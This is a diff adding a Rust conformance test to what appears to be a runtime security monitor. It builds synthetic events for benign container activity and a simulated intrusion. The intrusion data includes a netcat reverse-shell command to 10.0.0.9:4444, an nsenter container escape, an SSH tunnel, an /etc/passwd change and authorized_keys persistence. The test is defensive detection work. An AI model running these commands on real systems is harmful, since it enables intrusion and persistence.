@@ -402,3 +402,145 @@ fn a_fileless_exec_is_its_memfd_and_makes_one_document_per_operation() {
         assert_eq!(doc["event"]["action"], "exec");
     }
 }
+
+/// One step of the conformance session: the activity it belongs to and
+/// its records.
+type Step = (&'static str, Vec<Record>);
+
+/// An exec by `pid` (child of `ppid`, user `uid`) of `exe` with `args`, as
+/// the probes write it: the decision, then the exec record.
+fn exec_by(pid: u32, ppid: u32, uid: u32, interactive: bool, exe: &str, args: &[&str], ns: u64) -> Vec<Record> {
+    let name = exe.rsplit('/').next().unwrap();
+    let mut records = vec![encode::exec_decision(pid, exe, name, args, Actions::LOG), running(pid, exe, args, ns)];
+    for record in &mut records {
+        (record.head.ppid, record.head.uid, record.head.gid) = (ppid, uid, uid);
+        record.head.sid = ppid.max(1);
+        if interactive {
+            record.head.flags |= encode::INTERACTIVE;
+        }
+        record.head.ktime_ns = ns;
+    }
+    records
+}
+
+/// A file decision of `operation` at `path` by `pid` (user `uid`) through
+/// `hook`.
+fn file_by(pid: u32, uid: u32, hook: u32, operation: Operation, path: &str, part: u32, ns: u64) -> Record {
+    let mut record = encode::decision(pid, hook, operation, path, Actions::LOG);
+    (record.head.uid, record.head.gid, record.head.ktime_ns) = (uid, uid, ns);
+    record.head.flags |= part;
+    record
+}
+
+/// The session the conformance queries (`vmtest/conformance/queries.toml`)
+/// run over, as the VM suite will make it for real: benign activity of a
+/// web container, then an intruder's interactive shell, the tools it runs
+/// and the files it writes. Its documents go to
+/// `$CARGO_TARGET_TMPDIR/conformance/session.ndjson`, and which activity
+/// made each (by `event.id`) to `activities.json`, for
+/// `vmtest/conformance/check.py`; here each is checked against the field
+/// table, and the facts the queries read are asserted on them.
+#[test]
+fn conformance_session_documents() {
+    let proc = no_proc();
+    let mut h = Harness::new(proc.path());
+    let s = 1_000_000_000;
+    let steps: Vec<Step> = vec![
+        ("benign", exec_by(200, 1, 33, false, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 5 * s)),
+        ("benign", exec_by(201, 200, 33, false, "/bin/sh", &["sh", "-c", "cat /etc/hostname"], 6 * s)),
+        (
+            "benign",
+            vec![file_by(
+                200,
+                33,
+                encode::HOOK_FILE_OPEN,
+                Operation::ModifyFile,
+                "/var/log/nginx/access.log",
+                0,
+                7 * s,
+            )],
+        ),
+        ("benign", exec_by(202, 200, 33, false, "/usr/bin/base64", &["base64", "/tmp/report"], 8 * s)),
+        ("benign", exec_by(203, 200, 33, false, "/usr/bin/ssh", &["ssh", "-V"], 9 * s)),
+        (
+            "benign",
+            vec![
+                file_by(
+                    200,
+                    33,
+                    encode::HOOK_PATH_RENAME,
+                    Operation::DeleteFile,
+                    "/tmp/cache.tmp",
+                    encode::FIRST,
+                    10 * s,
+                ),
+                file_by(200, 33, encode::HOOK_PATH_RENAME, Operation::CreateFile, "/tmp/cache", encode::SECOND, 10 * s),
+            ],
+        ),
+        ("shell", exec_by(300, 1, 0, true, "/bin/bash", &["bash", "-i"], 20 * s)),
+        (
+            "escape",
+            exec_by(301, 300, 0, true, "/usr/bin/nsenter", &["nsenter", "--target", "1", "--mount", "sh"], 21 * s),
+        ),
+        ("decode", exec_by(302, 300, 0, true, "/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"], 22 * s)),
+        ("tunnel", exec_by(303, 300, 0, true, "/usr/bin/ssh", &["ssh", "-L", "8080:db:5432", "ops@10.0.0.9"], 23 * s)),
+        ("netcat", exec_by(304, 300, 0, true, "/bin/sh", &["sh", "-c", "nc 10.0.0.9 4444 -e /bin/sh"], 24 * s)),
+        ("accounts", vec![file_by(300, 0, encode::HOOK_FILE_OPEN, Operation::ModifyFile, "/etc/passwd", 0, 25 * s)]),
+        (
+            "persistence",
+            vec![file_by(
+                300,
+                0,
+                encode::HOOK_PATH_MKNOD,
+                Operation::CreateFile,
+                "/root/.ssh/authorized_keys",
+                0,
+                26 * s,
+            )],
+        ),
+        (
+            "drift",
+            vec![
+                file_by(300, 0, encode::HOOK_PATH_RENAME, Operation::DeleteFile, "/tmp/kit", encode::FIRST, 27 * s),
+                file_by(
+                    300,
+                    0,
+                    encode::HOOK_PATH_RENAME,
+                    Operation::CreateExecutable,
+                    "/usr/local/bin/kit",
+                    encode::SECOND,
+                    27 * s,
+                ),
+            ],
+        ),
+    ];
+    let mut session = String::new();
+    let mut activities = serde_json::Map::new();
+    let mut by_activity: std::collections::BTreeMap<&str, Vec<Value>> = Default::default();
+    for (activity, records) in steps {
+        let docs = h.run(&records);
+        assert!(!docs.is_empty(), "{activity}: no documents");
+        for doc in docs {
+            session.push_str(&doc.to_string());
+            session.push('\n');
+            activities.insert(doc["event"]["id"].as_str().unwrap().to_owned(), Value::from(activity));
+            by_activity.entry(activity).or_default().push(doc);
+        }
+    }
+    // The facts the queries read, on the documents themselves.
+    let escape = &by_activity["escape"][0];
+    assert_eq!((&escape["process"]["name"], &escape["process"]["args"][1]), (&json!("nsenter"), &json!("--target")));
+    let shell = &by_activity["shell"][0];
+    assert_eq!((&shell["process"]["interactive"], &shell["process"]["args"]), (&json!(true), &json!(["bash", "-i"])));
+    assert_eq!(by_activity["decode"][0]["process"]["parent"]["name"], "bash");
+    let accounts = &by_activity["accounts"][0];
+    assert_eq!((&accounts["event"]["action"], &accounts["event"]["type"]), (&json!("open"), &json!(["change"])));
+    assert_eq!((&accounts["user"]["id"], &shell["user"]["id"]), (&json!("0"), &json!("0")));
+    let drift: Vec<&Value> = by_activity["drift"].iter().map(|d| &d["event"]["type"]).collect();
+    assert_eq!(drift, [&json!(["deletion"]), &json!(["creation"])]);
+    assert!(by_activity["benign"].iter().all(|d| d["process"]["interactive"] == false));
+    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("conformance");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("session.ndjson"), session).unwrap();
+    std::fs::write(dir.join("activities.json"), Value::Object(activities).to_string()).unwrap();
+}
